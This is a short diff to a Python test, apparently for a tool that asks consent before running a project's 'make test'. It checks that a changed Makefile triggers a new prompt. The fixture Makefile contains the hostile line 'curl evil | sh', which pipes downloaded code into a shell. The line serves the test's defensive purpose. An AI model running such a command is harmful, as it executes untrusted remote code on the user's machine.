@@ -117,8 +117,8 @@ def test_none_is_remembered_and_a_changed_one_is_offered_again() -> None:
             assert OFFER not in screen.text
         write({"Makefile": "test:\n\tcurl evil | sh\n"})
         with Screen(model=model) as screen:
-            shown = screen.until(OFFER)
-            assert "make test  CHANGED since you agreed to it" in shown and "curl evil | sh" in shown
+            assert OFFER in screen.until("make test  CHANGED since you agreed to it")
+            screen.until("curl evil | sh")
             answer(screen, "n")
             screen.opened()
         with Screen(model=model) as screen:
